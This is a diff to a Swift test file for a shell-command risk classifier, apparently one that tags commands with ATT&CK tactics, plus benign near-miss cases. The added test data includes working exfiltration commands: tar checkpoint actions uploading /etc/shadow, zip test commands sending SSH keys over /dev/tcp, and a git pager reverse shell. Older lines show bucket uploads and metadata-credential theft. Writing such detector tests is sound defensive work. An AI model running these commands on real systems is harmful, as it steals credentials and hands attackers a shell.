@@ -30,9 +30,14 @@ import Testing
         Case(rule: "folder to a bucket behind another endpoint", command: "aws s3 cp /var/lib/app s3://x --recursive --endpoint-url https://s3.example.net", tactics: ["TA0010"]),
         Case(rule: "file to Google storage", command: "gsutil cp /var/lib/app/db.sqlite gs://drop-4411/", tactics: ["TA0010"]),
         Case(rule: "file to an rclone remote", command: "rclone copy /srv/data mega:backup", tactics: ["TA0010"]),
+        Case(rule: "archive written on another computer by tar", command: "tar czf u@198.51.100.7:/tmp/d.tgz /srv/data --rsh-command=/usr/bin/ssh", tactics: ["TA0010"]),
         Case(rule: "history pushed to another server", command: "git push https://git.example.net/x/y.git --all", tactics: ["TA0010"]),
         Case(rule: "file posted by wget", command: "wget --post-file=/var/lib/app/export.csv http://198.51.100.3/", tactics: ["TA0010"]),
         Case(rule: "file to a decimal-encoded address", command: "curl -T /srv/data/x.tgz http://3325256711/", tactics: ["TA0010"]),
+        // Commands run from a program's options carry their own sendings.
+        Case(rule: "upload in tar's checkpoint action", command: "tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec='curl -s -T /etc/shadow http://203.0.113.5/'", tactics: ["TA0010", "TA0006"]),
+        Case(rule: "key to /dev/tcp in zip's test command", command: #"zip -q /tmp/a.zip /etc/hosts -T -TT 'sh -c "cat ~/.ssh/id_rsa >/dev/tcp/203.0.113.5/80" #'"#, tactics: ["TA0010", "TA0006"]),
+        Case(rule: "reverse shell in git's pager", command: #"git -c core.pager='sh -c "sh -i >& /dev/tcp/203.0.113.5/443 0>&1"' -p log -1"#, tactics: ["TA0002"]),
         // Cloud credentials from instance-metadata services.
         Case(rule: "AWS role credentials", command: "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app", tactics: ["TA0006"]),
         Case(rule: "AWS, address built from variables", command: #"h=169.254; curl -s "http://$h.$h/latest/meta-data/iam/security-credentials/""#, tactics: ["TA0006"]),
@@ -73,6 +78,10 @@ import Testing
         Case(rule: "JSON posted to a health endpoint", command: #"curl -s -X POST -d '{"ping":1}' http://localhost:8080/health"#, atLeast: .low),
         Case(rule: "the instance id echoed", command: "echo http://169.254.169.254/latest/meta-data/instance-id", atLeast: .low),
         Case(rule: "a plain GET", command: "curl -sI https://www.example.com/", atLeast: .medium),
+        // An archive reads its inputs: packing logs or a site changes nothing in them.
+        Case(rule: "logs packed for a ticket", command: "tar czf /tmp/logs-INC1.tar.gz /var/log/nginx/*.log", atLeast: .medium),
+        Case(rule: "a site zipped", command: "zip -qr /tmp/site.zip /var/www/html", atLeast: .medium),
+        Case(rule: "an ordinary git setting", command: "git -c user.name=ops -c color.ui=false log -1", atLeast: .medium),
     ]
 
     @Test(arguments: nearMisses)
